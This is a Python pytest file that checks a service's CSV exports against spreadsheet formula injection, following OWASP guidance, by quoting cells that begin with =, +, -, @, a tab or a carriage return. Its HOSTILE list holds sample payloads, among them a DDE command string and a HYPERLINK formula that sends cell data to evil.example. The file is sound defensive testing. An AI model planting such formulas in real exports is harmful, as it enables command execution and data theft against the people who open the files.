"""Every CSV export neutralises cells a spreadsheet would run as formulas (OWASP)."""
from __future__ import annotations

import csv
import io

import pytest

from service.access.keys import Principal
from service.agenda.exports import organiser_csv
from service.agenda.formats import load_instance
from service.agenda.model import Meeting, Schedule
from service.batch_results import BatchResults
from service.csv_export import csv_text, safe_cell

HOSTILE = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+33 1 23", "-2+3",
           "@SUM(A1:A9)", "\tTab", "\rReturn"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Société Générale", "A=B", "3-2", "", "x@y.org"])
def test_ordinary_text_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert csv_text(["score"], [[-0.25], [3]]) == "score\r\n-0.25\r\n3\r\n"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_agenda_csv_neutralises_participant_names(tiny_doc) -> None:
    tiny_doc["participants"][0]["name"] = HOSTILE[0]
    tiny_doc["participants"][1]["name"] = HOSTILE[1]
    inst = load_instance(tiny_doc)
    a, b = inst.participants[0].id, inst.participants[1].id
    cells = _cells(organiser_csv(inst, Schedule(inst, [Meeting(a, b, 0, 0)])))
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


def test_batch_csv_neutralises_names_and_sentences(tmp_path) -> None:
    store = BatchResults(tmp_path)
    rows = [{"seeker": "s", "rank": 1, "partner": "p", "name": HOSTILE[0], "country": "FR", "score": -0.1,
             "sentence": "@evil", "gaps_filled": ["machining"], "pairs": [], "criteria": {}}]
    store.save("job", rows, Principal("k", "admin"))
    cells = _cells(store.read("job", "csv", Principal("k", "admin")))
    assert "'" + HOSTILE[0] in cells and "'@evil" in cells and "-0.1" in cells
